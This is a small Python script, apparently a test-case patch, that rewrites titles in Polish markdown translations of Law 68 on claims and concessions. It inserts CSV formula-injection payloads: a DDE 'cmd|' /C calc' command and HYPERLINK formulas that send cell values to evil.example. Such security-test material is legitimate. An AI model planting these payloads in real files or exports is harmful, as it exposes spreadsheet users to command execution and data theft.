# Usage: formulas.py CORPUS — N39's patch (../shared/cases/attack3/csv-formula.py): spreadsheet
# formulas at the start of Law 68's title and section A's title (pl, 2017); and, since a cell
# LibreOffice evaluates must be a formula whole, the 2007 Polish title a formula whole too
# (`=HYPERLINK(…)`, a link that sends the sheet's cell A1 elsewhere).
import sys

for path, edits in [
    (
        "/translations/pl/2017/68.md",
        [
            ("title: Deklaracja lub zrzeczenie się lew", "title: \"@SUM(1+1)*cmd|' /C calc'!A0\""),
            ("## A. Definicja deklaracji", '## A. =HYPERLINK("http://evil.example/?x="&C2,"Kliknij")'),
        ],
    ),
    (
        "/translations/pl/2007/68.md",
        [
            (
                "title: ROSZCZENIE ALBO ZRZECZENIE DOTYCZĄCE LEW",
                "title: '=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Kliknij\")'",
            ),
        ],
    ),
]:
    p = sys.argv[1] + path
    s = open(p, encoding="utf-8").read()
    for old, new in edits:
        assert old in s, old
        s = s.replace(old, new, 1)
    open(p, "w", encoding="utf-8").write(s)
